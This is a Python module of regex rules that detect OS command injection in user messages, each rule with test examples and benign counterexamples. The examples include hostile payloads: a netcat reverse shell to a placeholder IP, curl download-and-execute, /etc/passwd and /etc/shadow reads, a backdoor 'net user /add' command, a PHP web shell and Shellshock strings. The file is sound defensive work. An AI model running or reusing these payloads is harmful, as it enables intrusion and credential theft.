"""OS command injection: chained and substituted commands, interpreter one-liners, sensitive
files."""

from __future__ import annotations

from typing import Tuple

from rasa_secure.core.injection.rules.base import (
    COMMAND_INJECTION,
    Rule,
    Strength,
    define,
)

RULES: Tuple[Rule, ...] = (
    define(
        "cmd.chained_command",
        COMMAND_INJECTION,
        r"(?:^|[;&|`]|\$\(|%0a|%0d|\\n|%26|%7c|%3b)\s*(?:(?:/?usr/s?bin/|/bin/)?(?:id|whoami|"
        r"uname|ifconfig|ipconfig|netstat|systeminfo|sysinfo|hostname|nslookup|ls|pwd|printenv"
        r"|curl|wget|nc|ncat|netcat|bash|sh|zsh|dash|ksh|csh|powershell|pwsh|cmd(?:\.exe)?|"
        r"python[23]?|perl|php|nmap|telnet|chmod|chown|mkfifo|certutil|bitsadmin|rundll32|"
        r"regsvr32|wmic|mshta|netsh|tasklist|taskkill|phpinfo|useradd|crontab|sudo)\b(?:\s*$|"
        r"\s*[;&|`)'\"\\]|\s+[-/\\%$~.'\"\w]|\(\))|(?:/usr/s?bin/|/bin/)?(?:sleep|ping|cat|type|dir"
        r"|echo|net|reg|rm|del|kill|touch|tail|head|more|less|find|locate|which|su|passwd|route|"
        r"arp|shutdown|reboot|ps|env|ssh|scp|ftp|tftp|ruby)(?:\s*$|\s*[;&|`)'\"]|\s+[-/\\%$~.'\"]|"
        r"\s+\d|\s+[a-z]:\\|\s+(?:user|localgroup|view|share|use|start|stop|add|query|curl|"
        r"wget|nc|netcat|python\d?|perl|bash)\b))",
        Strength.FIRM,
        "; & | ` $( %0a %0d \\n %26 %7c %3b",
        "a shell command after a command separator",
        examples=(";cat /etc/passwd", "invoice.pdf; cat /etc/passwd"),
        counterexamples=("Pay M&S; then pay Tesco", "I said (not really) (& so on)"),
    ),
    define(
        "cmd.bare_command",
        COMMAND_INJECTION,
        r"^\W{0,3}(?:/usr/s?bin/|/bin/)?(?:whoami|uname(?:\s+-\w+)?|ifconfig|ipconfig(?:\s+/all)"
        r"?|netstat(?:\s+-\w+)?|systeminfo|sysinfo|hostname|phpinfo\(\);?|printenv|route|"
        r"pwd|id|ls(?:\s+-\w+)?|dir|ps\s+(?:aux|-ef)|which\s+(?:curl|wget|nc|netcat|python\d?|"
        r"perl|bash|sh|gcc|php|ruby)|cat\s+/\S+|ls\s+(?:-\w+\s+)?/\S*|sleep\s+\d+|ping\s+-\w+"
        r".{0,40}|net\s+(?:user|localgroup|view|share|use|start|stop)\b.{0,60}|"
        r"nslookup\s+\S+|dir\s+[a-z]:\\.{0,60})\W{0,3}$",
        Strength.FIRM,
        "/usr /bin whoami uname ifconfig ipconfig netstat systeminfo sysinfo hostname phpinfo "
        "printenv route pwd id ls dir ps which cat sleep ping net nslookup",
        "the whole message is a shell command",
        examples=(";cat /etc/passwd", "$(cat /etc/shadow)"),
        counterexamples=(
            "Which of these is my card type?\nA\nB\nC\nD",
            "Which tools can you use to help me budget?",
        ),
    ),
    define(
        "cmd.substitution",
        COMMAND_INJECTION,
        r"\$\(\s*`?[a-z/][^()]{0,120}\)|`\s*(?:/usr/s?bin/|/bin/)?(?:id|whoami|uname|ls|cat|pwd"
        r"|curl|wget|nc|ping|sleep|dir|echo|touch|rm|bash|sh|python|perl|env|hostname)\b[^`]"
        r"{0,120}`|\$\{?ifs\b",
        Strength.HIGH,
        "$( ` ifs",
        "command substitution $(...) or backticks, or $IFS standing in for a space",
        examples=("cat${IFS}/e't'c/p'a's's'w'd", "$(curl http://203.0.113.5/x)"),
        counterexamples=(
            "Here's a tuple:\n\n```\nlet tuple: [string, number] = ['Alice', 30];\n```",
            (
                "Here's a recursive function:\n\n```\ndef count_down(n):\n    if n <= 0:\n     "
                '   print("Done!")\n    else:\n        print(n)\n        count_down(n-1)\n```'
            ),
        ),
    ),
    define(
        "cmd.sensitive_files",
        COMMAND_INJECTION,
        r"/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab)\b|/proc/self/|c:\\+(?:windows|"
        r"winnt|boot\.ini|inetpub|documents\W+and\W+settings|users\b(?!\\+[\w.-]))|%systemroot%|\\repair\\+(?:sam|system)\b|\bwin\.ini\b|"
        r"/var/(?:www|log)/|/root/\.ssh|id_rsa\b|\.htpasswd\b|web\.config\b",
        Strength.BLOCKING,
        "/etc/ /proc/ c:\\ %systemroot% \\repair /var/ /root id_rsa .htpasswd web.config win.ini",
        "references to sensitive system files",
        examples=(";cat /etc/passwd", "../../etc/passwd"),
        counterexamples=(
            "My statement at C:\\Users\\me\\Downloads\\statement.pdf won't open.",
            "My scan is called C:\\Users\\anna\\Documents\\passport_scan.jpg, how do I upload it?",
        ),
    ),
    define(
        "cmd.interpreter_flag",
        COMMAND_INJECTION,
        r"\b(?:perl|ruby)\s+-e\s|\bpython[23]?\s+-c\s|\bphp\s+-r\s|\b(?:ba|z|da|k)?sh\s+-[ci]\b|"
        r"\bnc(?:at)?\s+(?:-\w+\s+)*-[a-z]*e\s|\bnc\s+-l\w*|/dev/(?:tcp|udp)/|\bmkfifo\b|"
        r"\bpowershell(?:\.exe)?\s+-\w+|\bcmd(?:\.exe)?\s+/c\b|\bcertutil\s+-urlcache|"
        r"\breg\s+add\s+\"?hk|\bnetsh\s+(?:firewall|advfirewall)|\bnet\s+(?:user|localgroup)"
        r"\s+\S+\s+(?:[^\s/]\S*\s*)?/add",
        Strength.STRONG,
        "perl ruby python python2 python3 php sh bash zsh dash ksh nc ncat /dev/ mkfifo "
        "powershell cmd certutil reg netsh net",
        "interpreter one-liners, reverse shells, Windows persistence",
        examples=(
            "| nc -e /bin/sh 203.0.113.5 9001",
            "Start-Process cmd.exe -ArgumentList '/c net user hacker P@ss1 /add'",
        ),
        counterexamples=(
            "please check https://example.com/login.php? is it safe",
            "Laat maar wat ik net zei, toon gewoon mijn saldo.",
        ),
    ),
    define(
        "cmd.download_exec",
        COMMAND_INJECTION,
        r"\b(?:curl|wget|fetch|invoke-webrequest|iwr|tftp)\s+(?:-\S+\s+){0,4}['\"]?(?:https?|"
        r"ftp)://|\|\s*(?:ba|z)?sh\b|\|\s*(?:python|perl|ruby|php|nc)\b",
        Strength.FIRM,
        "curl wget fetch invoke-webrequest iwr tftp |",
        "download-and-execute, pipe into a shell",
        examples=("$(curl http://203.0.113.5/x)", "| nc -e /bin/sh 203.0.113.5 9001"),
        counterexamples=(
            (
                "Kind regards,\nMaria Schmidt\nHead of Finance | Schmidt & Partner GmbH\nTel: "
                "+49 (0)30 1234-5678\nmaria.schmidt@schmidt-partner.de"
            ),
            '{% $NUM_VIEWS|STRING_FORMAT:"%D" %} VUES',
        ),
    ),
    define(
        "cmd.shellshock",
        COMMAND_INJECTION,
        r"\(\s*\)\s*\{\s*(?::\s*)?(?:;\s*)?\}\s*;",
        Strength.CERTAIN,
        "(",
        "Shellshock function definition",
        examples=("() { :;}; echo vulnerable 10", '() { :;}; /bin/bash -c "sleep 1 && echo'),
        counterexamples=(
            "I said (not really) (& so on)",
            "The fee was 2.5% (see section 4)(b) of the terms",
        ),
    ),
    define(
        "cmd.ssi",
        COMMAND_INJECTION,
        r"<!--\s*#\s*(?:exec|include|echo|config|printenv)\b",
        Strength.STRONG,
        "<!--",
        "server-side include directive",
        examples=('<!--#exec cmd="/usr/bin/id;-->', '<!--#exec cmd="/bin/cat /etc/passwd"-->'),
        counterexamples=("<!-- the customer pasted an HTML comment -->",),
    ),
    define(
        "cmd.php",
        COMMAND_INJECTION,
        r"<\?(?:php|=)|\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|"
        r"assert|phpinfo|phpversion|include|require(?:_once)?|file_get_contents|"
        r"preg_replace)\s*\(\s*(?:['\"$]|\)|[a-z_]+\s*\()|\$_(?:get|post|request|cookie|server)"
        r"\s*\[|\{\$\{?\s*@?\w+\s*\(|\$\{\s*@\w+\s*\(|@\{\[\s*system\b",
        Strength.HIGH,
        "<? system exec shell_exec passthru popen proc_open pcntl_exec eval assert phpinfo "
        "phpversion include require require_once file_get_contents preg_replace $_ {$ ${",
        "PHP/Perl code execution",
        examples=("__import__('os').system('id')", "<?php system($_GET['c']); ?>"),
        counterexamples=("The app says [System] error 500 when I log in", "System Solutions Ltd"),
    ),
    define(
        "cmd.terminal_escape",
        COMMAND_INJECTION,
        r"\\033\[|\x1b\[|\\e\[\d",
        Strength.MODERATE,
        "\\033 \x1b \\e",
        "terminal escape sequences",
        examples=(
            (
                "\\necho INJECTX\\nexit\\n\\033[2Acurl "
                "https://crowdshield.com/.testing/rce_vuln.txt\\n"
            ),
            (
                "\\necho INJECTX\\nexit\\n\\033[2Awget "
                "https://crowdshield.com/.testing/rce_vuln.txt\\n"
            ),
        ),
        counterexamples=("My statement shows \\033 as a reference, what is it?",),
    ),
)
